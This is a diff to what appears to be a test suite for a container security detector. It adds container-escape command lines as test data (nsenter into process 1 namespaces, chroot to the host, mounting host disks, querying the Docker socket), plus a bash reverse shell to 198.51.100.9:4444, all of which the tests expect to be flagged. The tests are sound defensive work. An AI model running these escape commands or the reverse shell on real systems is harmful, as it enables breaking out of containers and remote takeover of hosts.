@@ -392,6 +392,12 @@ describe('a report says what the fields support', () => {
     'sh -c echo /tmp/x.so >> /etc/ld.so.preload',
     'nsenter --target 1 --mount --pid -- bash',
     'nsenter -t 1 -m sh',
+    'nsenter --mount=/proc/1/ns/mnt -- /bin/bash',
+    'nsenter -m/host/proc/1/ns/mnt sh',
+    'chroot /host',
+    'sh -c chroot /mnt/host bash',
+    'mount /dev/sda1 /mnt',
+    'curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json',
   ])('the command line %s in a container is suspicious', (line) => {
     expect(reported({ fields: { 'proc.cmdline': line } }).verdict).toMatchObject({ label: 'suspicious', confidence: 'medium' })
   })
@@ -402,8 +408,36 @@ describe('a report says what the fields support', () => {
     'base64 -d key.b64',
     'socat TCP-LISTEN:80,fork TCP:web:80',
     'nsenter -t 12 -n ip a',
+    'nsenter --net=/proc/1/ns/net ip a',
+    'chroot /srv/jail sh',
+    'mount -t tmpfs tmpfs /mnt',
+    'mount /dev/nvme1n1 /var/lib/kubelet/plugins/x',
+    'curl -s --unix-socket /var/run/docker.sock http://localhost/_ping',
+    'curl --unix-socket /run/app.sock http://localhost/',
   ])('the command line %s is not', (line) => {
     expect(reported({ fields: { 'proc.cmdline': line } }).verdict.label).toBe('not settled')
+  })
+
+  test.each(['chroot /host', 'mount /dev/sda1 /mnt', 'curl --unix-socket /var/run/docker.sock http://localhost/containers/json'])(
+    'what is a way out of a container is none on the host itself: %s',
+    (line) => {
+      expect(reported({ fields: { 'container.id': 'host', 'proc.cmdline': line } }).verdict.label).toBe('not settled')
+    },
+  )
+
+  test('beside a grave sign nothing lulls: not that the shell came with the image, nor that there is no terminal', () => {
+    const fields = { 'evt.arg.flags': 'EXE_LOWER_LAYER', 'proc.name': 'bash', 'proc.exepath': '/usr/bin/bash', 'proc.tty': 0 }
+    const lulling = ['The executable came with the image', 'A reverse shell has none either']
+    const told = (line: string) => lulling.filter((text) => observe({ fields: { ...fields, 'proc.cmdline': line } }).includes(text))
+    expect(told('bash -c sleep 1')).toEqual(lulling)
+    expect(told('bash -c bash -i >& /dev/tcp/198.51.100.9/4444 0>&1')).toEqual([])
+  })
+
+  test('a command line that is a sign is not told among what would refute it', () => {
+    const refuting = (line: string) =>
+      textOf(reported({ rule: 'Run shell untrusted', fields: { 'proc.cmdline': line } }), 'Assessment').split('What would refute it')[1]
+    expect(refuting('sh -c sleep 1')).toContain('Here proc.cmdline is')
+    expect(refuting('bash -c bash -i >& /dev/tcp/198.51.100.9/4444 0>&1')).not.toContain('Here proc.cmdline is')
   })
 
   test('to enter the namespaces of process 1 from the host itself is told and does not settle it', () => {
